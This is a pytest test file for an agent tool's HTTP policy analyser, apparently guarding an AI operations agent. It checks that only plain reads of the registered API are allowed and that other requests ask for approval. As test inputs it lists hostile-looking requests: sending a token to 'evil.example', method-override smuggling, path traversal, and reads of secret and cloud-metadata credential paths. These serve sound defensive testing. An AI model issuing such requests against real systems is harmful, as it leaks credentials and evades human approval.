"""A read is a plain GET or HEAD of the registered API; everything else asks and says why."""

from __future__ import annotations

import pytest

from opsagent.adapters.analysers.http.analyser import manifest_of
from opsagent.domain.command import Command
from opsagent.domain.connection import Connection
from opsagent.domain.manifest import Decision, Proof
from opsagent.domain.policy import Policy, Rule, judge

HOST = "api.example.com:443"


def registered(address: str = "https://api.example.com/v1", **options: str) -> Connection:
    return Connection(id="a", tenant="t", name="api", executor="http", address=address, options=options)


def decided(text: str, connection: Connection, *rules: Rule) -> tuple[Decision, str]:
    command = Command(executor="http", text=text, connection_id="a")
    verdict = judge(
        Policy(version="1", rules=rules), manifest_of(text, connection), command=command, connection=connection
    )
    return verdict.decision, verdict.reason


@pytest.mark.parametrize(
    "text",
    [
        "GET /",
        "GET /orders/7?state=open",
        "HEAD /orders",
        "GET /orders\nAccept: application/json\nX-Request-Id: 7",
        "GET https://api.example.com/v1/orders",
        "GET https://API.example.com:443/v1",
    ],
)
def test_a_plain_read_of_the_registered_api_is_proven(text: str) -> None:
    manifest = manifest_of(text, registered())
    assert (manifest.proof, manifest.reasons) == (Proof.READ, ())
    assert manifest.contacts == (HOST,)
    assert decided(text, registered())[0] is Decision.ALLOW


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("GET https://evil.example/v1/orders", "not the registered address"),
        ("GET https://api.example.com.evil.example/v1", "not the registered address"),
        ("GET http://api.example.com/v1/orders", "not the registered address"),
        ("GET https://api.example.com:8443/v1/orders", "not the registered address"),
        ("GET https://api.example.com/v2/orders", "not below"),
        ("GET https://api.example.com/v10", "not below"),
        ("GET https://api.example.com/", "not below"),
        ("OPTIONS /orders", "OPTIONS"),
        ("GET /orders?_method=DELETE", "another method"),
        ("GET /orders?_METHOD=delete", "another method"),
        ("GET /orders?a=1&%5Fmethod=delete", "another method"),
        ("GET /orders\nX-HTTP-Method-Override: DELETE", "another method"),
        ("GET /orders\nX-Forwarded-Host: other", "nothing is known of the header"),
        ("GET /orders\nCookie: a=b", "nothing is known of the header"),
        ("GET /orders\nContent-Type: text/plain\n\nx", "with a body"),
        ("POST /orders?_method=GET", "another method"),
        ("POST /x\nContent-Type: application/x-www-form-urlencoded\n\n_method=delete", "another method"),
        ("POST https://evil.example/x", "not the registered address"),
        ("GET /a/../b", "cannot be read"),
        ("DROP TABLE", "cannot be read"),
    ],
)
def test_what_is_not_proven_asks_and_says_why(text: str, why: str) -> None:
    manifest = manifest_of(text, registered())
    assert manifest.proof is Proof.UNKNOWN
    assert why in " ".join(manifest.reasons)
    assert decided(text, registered())[0] is Decision.ASK


def test_another_host_is_named_in_the_question() -> None:
    decision, reason = decided("GET https://evil.example/v1/orders?token=secret", registered())
    assert decision is Decision.ASK
    assert "evil.example:443" in reason
    assert "secret" not in str(manifest_of("GET https://evil.example/v1/orders?token=secret", registered()))


def test_an_effect_is_named() -> None:
    manifest = manifest_of("POST /orders/7/close?why=x", registered())
    assert (manifest.proof, manifest.writes) == (Proof.EFFECT, ("POST https://api.example.com/v1/orders/7/close",))
    manifest = manifest_of("DELETE /orders/7", registered())
    assert (manifest.proof, manifest.deletes) == (Proof.EFFECT, ("DELETE https://api.example.com/v1/orders/7",))
    decision, reason = decided("DELETE /orders/7", registered())
    assert (decision, reason) == (Decision.ASK, "It sends DELETE https://api.example.com/v1/orders/7.")
    assert manifest_of("GET /orders", registered()).reads == ("GET https://api.example.com/v1/orders",)


@pytest.mark.parametrize(
    "text",
    [
        "GET /jobs/7/run",
        "GET /V1/JOBS/7/RUN/",
        "GET /jobs/7/%72un",
        "HEAD /jobs/7/run",
        "GET /jobs/7/run;a=b",
        "GET /jobs;x/7/run.",
        "GET /jobs/7/run%20?a=b",
        "GET /index?a=1&action=run",
        "GET /index?ACTION=%72un",
    ],
)
def test_a_get_that_acts_is_registered(text: str) -> None:
    connection = registered("https://api.example.com", effects="/jobs/*/run, /v1/jobs/*/run /index?*action=run")
    assert manifest_of(text, connection).proof is Proof.EFFECT
    assert decided(text, connection)[0] is Decision.ASK
    assert manifest_of("GET /jobs/7", connection).proof is Proof.READ


def test_globs_are_of_the_whole_path_and_of_what_is_below_the_base() -> None:
    for glob in ("/v1/jobs/run", "/jobs/run", "*/run"):
        assert manifest_of("GET /jobs/run", registered(effects=glob)).proof is Proof.EFFECT


@pytest.mark.parametrize(
    "text",
    [
        "GET /api/v1/namespaces/shop/secrets",
        "GET /api/v1/namespaces/shop/secrets/db",
        "GET /api/v1/Secrets",
        "GET /v1/secret/shop",
        "GET /v1/kv/data/shop",
        "GET /v1/database/creds/writer",
        "GET /actuator/env",
        "GET /latest/meta-data/iam",
        "GET /vault-of-ours/x",
    ],
)
def test_what_may_be_a_secret_asks_although_it_is_a_read(text: str) -> None:
    connection = registered("https://api.example.com", sensitive_paths="/vault-of-ours/*")
    assert manifest_of(text, connection).proof is Proof.READ
    decision, reason = decided(text, connection)
    assert decision is Decision.ASK
    assert "secrets" in reason


def test_a_header_of_the_api_can_be_registered_for_reads() -> None:
    text = "GET /orders\nX-Tenant: shop"
    assert manifest_of(text, registered()).proof is Proof.UNKNOWN
    assert manifest_of(text, registered(read_headers="x-tenant")).proof is Proof.READ


def test_an_address_of_no_api_proves_nothing() -> None:
    for address in ("", "postgresql://db/x", "https://", "https://host/?a=b"):
        assert manifest_of("GET /", registered(address)).proof is Proof.UNKNOWN


def test_a_rule_may_name_a_method_and_an_address() -> None:
    by_method = Rule(id="no-delete", decision=Decision.DENY, reason="No.", commands=("DELETE",))
    by_path = Rule(
        id="no-orders", decision=Decision.DENY, reason="No.", paths=("POST https://api.example.com/v1/orders",)
    )
    assert decided("DELETE /x", registered(), by_method)[0] is Decision.DENY
    assert decided("POST /x", registered(), by_method, by_path)[0] is Decision.ASK
    assert decided("POST /orders/7", registered(), by_path)[0] is Decision.DENY
    assert decided("POST /orders", registered(), by_path)[0] is Decision.DENY
